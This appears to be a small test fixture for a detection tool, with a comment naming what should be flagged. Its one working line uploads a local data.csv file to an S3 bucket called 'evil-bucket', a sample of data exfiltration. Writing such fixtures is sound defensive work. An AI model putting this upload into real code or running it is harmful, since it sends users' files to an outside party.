# expect: urlopen | boto3 upload
import boto3
boto3.client("s3").upload_file("data.csv", "evil-bucket", "x")
